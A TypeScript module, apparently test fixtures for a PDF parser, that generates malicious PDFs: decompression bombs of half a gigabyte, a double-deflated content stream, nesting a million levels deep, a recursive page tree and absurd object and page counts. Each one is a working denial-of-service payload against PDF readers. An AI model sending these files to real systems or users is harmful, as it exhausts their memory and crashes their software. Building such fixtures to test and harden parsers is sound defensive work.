import { deflateSync } from "node:zlib";

const head = "%PDF-1.7\n";
const catalog = "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n";
const tree = "2 0 obj\n<< /Type /Pages /Count 1 /Kids [3 0 R] >>\nendobj\n";
const page = "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n";
const written = "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>\nendobj\n";
const end = "trailer << /Root 1 0 R >>\n%%EOF\n";

/** How much the streams below unpack to. */
const huge = 500 * 1024 * 1024;

function stream(number: number, dictionary: string, bytes: Buffer): Buffer {
  const open = `${number} 0 obj\n<< ${dictionary} /Length ${bytes.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(open), bytes, Buffer.from("\nendstream\nendobj\n")]);
}

/** Catalog and page tree in an object stream (ISO 32000-1, 7.5.7) that unpacks to half a gigabyte. */
function objectStream(): Buffer {
  const body = `${"1 0 2 40".padEnd(20)}${"<< /Type /Catalog /Pages 2 0 R >>".padEnd(40)}<< /Type /Pages /Count 1 /Kids [3 0 R] >>`;
  const packed = deflateSync(Buffer.concat([Buffer.from(body), Buffer.alloc(huge, 0x20)]));
  const objects = stream(5, "/Type /ObjStm /N 2 /First 20 /Filter /FlateDecode", packed);
  const before = Buffer.concat([Buffer.from(head), objects, Buffer.from(page)]);
  const rows = [
    [0, 0, 0xffff],
    [2, 5, 0],
    [2, 5, 1],
    [1, head.length + objects.length, 0],
    [1, before.length, 0],
    [1, head.length, 0],
  ];
  const table = Buffer.concat(
    rows.map(([kind, place, index]) => {
      const row = Buffer.from([kind!, 0, 0, 0, 0, 0, 0]);
      row.writeUInt32BE(place!, 1);
      row.writeUInt16BE(index!, 5);
      return row;
    }),
  );
  const reference = stream(4, "/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R", table);
  return Buffer.concat([before, reference, Buffer.from(`startxref\n${before.length}\n%%EOF\n`)]);
}

/** A table of cross-references that unpacks to half a gigabyte and promises a hundred million objects. */
function crossReferences(): Buffer {
  const before = Buffer.from(head + catalog + tree + page);
  const packed = deflateSync(Buffer.alloc(huge));
  const table = stream(4, "/Type /XRef /Size 99999999 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode", packed);
  return Buffer.concat([before, table, Buffer.from(`startxref\n${before.length}\n%%EOF\n`)]);
}

/** A page whose content is packed twice: a few kilobytes for half a gigabyte. */
function packedTwice(): Buffer {
  const packed = deflateSync(deflateSync(Buffer.alloc(huge, "(a)Tj ")));
  const content = stream(4, "/Filter [/FlateDecode /FlateDecode]", packed);
  return Buffer.concat([Buffer.from(head + catalog + tree + written), content, Buffer.from(end)]);
}

function chain(): Buffer {
  const count = 60_000;
  const links = Array.from(
    { length: count },
    (_, index) => `${index + 2} 0 obj\n<< /Type /Pages /Count 1 /Kids [${index + 3} 0 R] >>\nendobj\n`,
  );
  const last = `${count + 2} 0 obj\n<< /Type /Page /Parent ${count + 1} 0 R /MediaBox [0 0 9 9] >>\nendobj\n`;
  return Buffer.from(head + catalog + links.join("") + last + end);
}

/** PDFs made to take all memory or time of whoever opens them. */
export const pdfBombs: Record<string, () => Buffer> = {
  "an object stream that unpacks to half a gigabyte": objectStream,
  "a table of cross-references that does, and promises a hundred million objects": crossReferences,
  "a content packed twice": packedTwice,
  "brackets a million deep": () =>
    Buffer.from(
      `${head}${catalog}${tree}3 0 obj\n<< /Type /Page /MediaBox ${"[".repeat(1e6)}${"]".repeat(1e6)} >>\nendobj\n${end}`,
    ),
  "dictionaries half a million deep": () =>
    Buffer.from(
      `${head}1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X ${"<< /A ".repeat(5e5)}1${" >>".repeat(5e5)} >>\nendobj\n${tree}${page}${end}`,
    ),
  "a page tree of sixty thousand levels": chain,
  "a page tree that holds itself": () =>
    Buffer.from(`${head}${catalog}2 0 obj\n<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>\nendobj\n${end}`),
  "two thousand million pages": () =>
    Buffer.from(
      `${head}${catalog}2 0 obj\n<< /Type /Pages /Count 2147483647 /Kids [3 0 R] >>\nendobj\n${page}${end}`,
    ),
};
